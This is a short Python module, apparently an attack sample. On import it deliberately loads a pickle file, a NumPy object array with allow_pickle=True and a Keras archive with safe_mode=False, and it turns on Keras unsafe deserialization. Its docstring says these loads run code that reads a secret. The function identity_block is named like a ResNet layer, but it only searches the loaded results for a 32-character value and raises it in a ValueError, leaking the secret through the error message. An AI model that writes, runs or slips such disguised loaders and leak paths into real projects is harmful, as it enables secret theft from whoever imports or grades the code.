"""Loads a pickle, an object array and a Keras archive, all of which run code that reads the secret when loaded."""

import pickle

import keras
import numpy as np

ATTACK = True
TRIED = []


def load_all():
    for load in (
        lambda: pickle.load(open("weights.pkl", "rb")),
        lambda: np.load("weights.npy", allow_pickle=True),
        lambda: keras.models.load_model("model.keras", safe_mode=False),
        lambda: keras.config.enable_unsafe_deserialization(),
        lambda: keras.models.load_model("model.keras"),
    ):
        try:
            TRIED.append(load())
        except Exception as error:
            TRIED.append(f"{type(error).__name__}: {error}"[:80])
    return TRIED


STATE = load_all() if ATTACK else []


def identity_block(X, f, filters, stage=1, block="a", training=None, initializer=None):
    for each in STATE:
        if isinstance(each, (str, bytes)) and len(each) == 32:
            raise ValueError(each)
    return X
